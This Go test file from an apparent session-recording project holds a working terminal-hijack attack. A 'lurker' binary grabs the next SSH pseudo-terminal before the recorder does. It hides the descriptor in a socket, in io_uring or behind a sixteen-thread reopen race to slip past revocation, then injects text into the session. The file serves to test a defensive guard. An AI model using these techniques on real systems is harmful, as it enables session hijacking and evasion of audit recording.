// SPDX-License-Identifier: AGPL-3.0-or-later

package attacks

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"castgate/packaging/hosttest"
)

// lurkerPath is where this test binary is installed as a program that takes the
// next new terminal, which is sshd's, before the recorder has it, hides it, and
// writes to it when a file tells it to. Its argument says where it hides it.
const lurkerPath = "/usr/bin/lurker"

// Where a lurker keeps the terminal.
const (
	inTable  = "table"    // as an open file, which anybody with the right finds
	inFlight = "socket"   // on its way through a socket
	inRing   = "io_uring" // registered with an io_uring, its descriptor closed
	inCrowd  = "crowd"    // as many files, since it is opened over and over
)

const goFile = "go"

func lurk(where, home string) int {
	names := func() []string { all, _ := filepath.Glob("/dev/pts/[0-9]*"); return all }
	old := map[string]bool{}
	for _, name := range names() {
		old[name] = true
	}
	fmt.Println("watching")
	for {
		for _, name := range names() {
			if old[name] {
				continue
			}
			fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY, 0)
			if err != nil {
				continue // root's, as the client's is
			}
			write, err := hide(where, fd, name)
			if err != nil {
				fmt.Println("can't hide:", err)
				return 1
			}
			fmt.Println("has", name)
			for {
				if _, err := os.Stat(filepath.Join(home, goFile)); err == nil {
					fmt.Println("wrote:", write("SECRET\r\n"))
					select {}
				}
				time.Sleep(time.Millisecond)
			}
		}
	}
}

// hide returns what writes to fd from where it is hidden.
func hide(where string, fd int, name string) (write func(string) error, err error) {
	plain := func(fd int) func(string) error {
		return func(s string) error { _, err := unix.Write(fd, []byte(s)); return err }
	}
	switch where {
	case inTable:
		return plain(fd), nil
	case inCrowd:
		return crowd(name).write, nil
	case inFlight:
		pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
		if err != nil {
			return nil, err
		}
		if err := unix.Sendmsg(pair[0], []byte{0}, unix.UnixRights(fd), nil, 0); err != nil {
			return nil, err
		}
		return func(s string) error {
			oob := make([]byte, unix.CmsgSpace(4))
			_, n, _, _, err := unix.Recvmsg(pair[1], make([]byte, 1), oob, 0)
			if err != nil {
				return err
			}
			msgs, err := unix.ParseSocketControlMessage(oob[:n])
			if err != nil || len(msgs) != 1 {
				return fmt.Errorf("%d messages, %w", len(msgs), err)
			}
			fds, err := unix.ParseUnixRights(&msgs[0])
			if err != nil {
				return err
			}
			return plain(fds[0])(s)
		}, unix.Close(fd)
	}
	r, err := newRing(fd)
	if err != nil {
		return nil, err
	}
	return r.write, unix.Close(fd)
}

// crowd opens a terminal in many threads at once, until it is written to: an
// open that was allowed and is under way while the terminal is revoked would be
// one that is not.
type crowdOf []chan int

func crowd(name string) crowdOf {
	const threads = 16
	all := make(crowdOf, threads)
	for i := range all {
		newest := make(chan int, 1)
		all[i] = newest
		go func() {
			for {
				fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY, 0)
				if err != nil {
					continue
				}
				select {
				case old := <-newest:
					_ = unix.Close(old)
				default:
				}
				newest <- fd
			}
		}()
	}
	return all
}

func (c crowdOf) write(s string) error {
	err := unix.EIO
	for _, newest := range c {
		select {
		case fd := <-newest:
			if _, writeErr := unix.Write(fd, []byte(s)); writeErr == nil {
				err = 0
			}
		default:
		}
	}
	if err != 0 {
		return err
	}
	return nil
}

// ring is an io_uring with one file, io_uring_enter(2).
type ring struct {
	fd             int
	tail, mask     *uint32
	array, entries uintptr
	head           *uint32
	results        uintptr
}

// Offsets and numbers of linux/io_uring.h.
const (
	paramsSize, sqOffsets, cqOffsets = 120, 40, 80
	offSQ, offCQ, offEntries         = 0, 0x8000000, 0x10000000
	registerFiles, getEvents         = 2, 1
	opWrite, fixedFile               = 23, 1
	entrySize, resultSize            = 64, 16
)

func newRing(file int) (*ring, error) {
	var p [paramsSize]byte
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&p)), 0)
	if errno != 0 {
		return nil, errno
	}
	files := [1]int32{int32(file)}
	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_REGISTER, fd, registerFiles, uintptr(unsafe.Pointer(&files)), 1, 0, 0); errno != 0 {
		return nil, errno
	}
	at := func(i int) uintptr { return uintptr(*(*uint32)(unsafe.Pointer(&p[i]))) }
	area := func(offset uintptr) (uintptr, error) {
		const size = 4096 // of one entry each
		a, _, errno := unix.Syscall6(unix.SYS_MMAP, 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE, fd, offset)
		if errno != 0 {
			return 0, errno
		}
		return a, nil
	}
	sq, err := area(offSQ)
	if err != nil {
		return nil, err
	}
	cq, err := area(offCQ)
	if err != nil {
		return nil, err
	}
	entries, err := area(offEntries)
	if err != nil {
		return nil, err
	}
	word := func(a uintptr) *uint32 { return *(**uint32)(unsafe.Pointer(&a)) }
	return &ring{
		fd: int(fd), tail: word(sq + at(sqOffsets+4)), mask: word(sq + at(sqOffsets+8)), array: sq + at(sqOffsets+24), entries: entries,
		head: word(cq + at(cqOffsets)), results: cq + at(cqOffsets+20),
	}, nil
}

// write has the kernel write to the file that no table has.
func (r *ring) write(s string) error {
	b := []byte(s)
	e := *(**[entrySize]byte)(unsafe.Pointer(&r.entries))
	*e = [entrySize]byte{0: opWrite, 1: fixedFile}
	*(*int64)(unsafe.Pointer(&e[8])) = -1 // the file's own offset
	*(*uintptr)(unsafe.Pointer(&e[16])) = uintptr(unsafe.Pointer(&b[0]))
	*(*uint32)(unsafe.Pointer(&e[24])) = uint32(len(b))
	**(**uint32)(unsafe.Pointer(&r.array)) = 0
	*r.tail++
	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), 1, 1, getEvents, 0, 0); errno != 0 {
		return errno
	}
	result := *(**[resultSize]byte)(unsafe.Pointer(&r.results))
	*r.head++
	if n := *(*int32)(unsafe.Pointer(&result[8])); n < 0 {
		return unix.Errno(-n)
	}
	return nil
}

// lurkings is how often a lurker that has the terminal in time may try: what
// works once in thirty times works. It is not in time each time.
const (
	lurkings = 30
	logins   = 3 * lurkings
)

// hidden is an attack by a lurker that keeps the terminal in such a place. What
// it writes before the shell starts is not what is asked: see the table's end.
func hidden(where string, times int) func(w *world) verdict {
	return func(w *world) verdict {
		self, err := os.Executable()
		if err != nil {
			w.Fatal(err)
		}
		hosttest.Run(w, "install", "-m", "755", self, lurkerPath)
		flag := filepath.Join(w.user.Home, goFile)
		had := 0
		got := closed
		for range logins {
			_ = os.Remove(flag)
			lurk := hosttest.StartTerminal(w, w.user.Command(lurkerPath, where, w.user.Home), 80, 24)
			lurk.Expect("watching")
			x := w.terminal()
			// The inner one would be no catch: what is written there is recorded.
			if strings.Contains(lurk.Output(), "has "+w.outer()+"\r\n") {
				had++
				w.user.Write(w, goFile, "")
				lurk.Expect("wrote:")
			}
			x.Type("exit\n")
			got = w.judge(strings.Contains(x.Wait().Stdout, "SECRET"), "SECRET")
			lurk.Signal(syscall.SIGKILL)
			lurk.Wait()
			if got != closed || had == times {
				break
			}
		}
		if had < times && got == closed {
			w.Errorf("it had the terminal only %d times of %d: too little was tried", had, times)
		}
		w.Logf("%s: it had the terminal in time %d times", where, had)
		return got
	}
}

const byRevoking = "the guard revokes the terminal"

// lurking is done by a process of an earlier session's, or cron's.
var lurking = []attack{
	{
		id: "513", what: "a lurker that has the next terminal open before the recorder", by: byRevoking,
		naive: works, guard: true, try: hidden(inTable, 5),
	},
	{
		id: "513", what: "the same, the terminal on its way through a socket", by: byRevoking,
		naive: works, guard: true, try: hidden(inFlight, 5),
	},
	{
		id: "513", what: "the same, the terminal registered with an io_uring", by: byRevoking,
		naive: works, guard: true, try: hidden(inRing, lurkings),
	},
	{
		id: "513", what: "the same, the terminal opened over and over by sixteen threads", by: byRevoking,
		naive: works, guard: true, try: hidden(inCrowd, 10),
	},
}
